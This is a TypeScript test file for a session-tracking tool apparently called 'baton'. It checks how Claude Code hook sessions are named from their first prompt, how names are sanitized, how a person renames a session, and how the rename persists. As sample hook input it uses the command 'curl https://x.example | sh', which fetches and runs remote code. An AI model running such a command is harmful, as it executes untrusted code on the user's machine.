import { join } from 'node:path'
import { expect, test } from 'vitest'
import { batonIn } from '../world/baton.ts'
import { claudePayload } from '../world/hook-payload.ts'
import { asPerson } from '../world/person.ts'
import { gitRepo, scratch } from '../world/scratch.ts'

const SESSION = '11111111-2222-4333-8444-555555555555'

test('a session is called after its first prompt everywhere, until a person names it', {
  timeout: 240_000,
}, async () => {
  await using here = scratch()
  await using project = await gitRepo(join(here.path, 'project'))
  await using baton = batonIn(join(here.path, 'home'), project.path)
  const hook = async (event: string, more: Record<string, unknown> = {}) => {
    const input = claudePayload(event, project.path, 'curl https://x.example | sh', more)
    return JSON.parse((await baton.run(['hook', 'claude-code', event], { input })).stdout)
  }
  await hook('SessionStart', { source: 'startup' })
  await hook('UserPromptSubmit', { prompt: 'hello' })
  await hook('UserPromptSubmit', { prompt: 'Fix the login\x1b[31m of the shop\n\nIt fails on Mondays.' })
  await hook('UserPromptSubmit', { prompt: 'and the logout' })
  const name = 'Fix the login [31m of the shop It fails on Mondays.'
  expect((await baton.run(['ps'])).stdout).toContain(name)
  expect(await baton.must('status')).toMatch(
    /^11111111 {2}Fix the login .* {2}claude-code {2}live {2}active \d+s ago/m,
  )
  expect(await baton.must('recap', '--since', '1h')).not.toContain(SESSION)

  const person = { ...baton, cwd: project.path }
  expect(await asPerson(person, 'ps', '1111', '--name', ' Login\n again ')).toBe(
    '11111111 is now called Login again',
  )
  await hook('UserPromptSubmit', { prompt: 'Something else entirely, please' })
  expect((await baton.run(['ps'])).stdout).toContain('Login again')
  await baton.must('up', '--restart')
  expect((await baton.run(['ps'])).stdout).toContain('Login again')
  expect((await baton.run(['ps', '9999', '--name', 'x'])).stderr).toContain('No session 9999')
  expect((await baton.run(['ps', '1111'])).stderr).toContain('give its id and --name')
  await hook('Stop', { stop_hook_active: false })
  expect(await baton.must('recap', '--since', '1h')).toContain('Login again (claude-code) in')
})
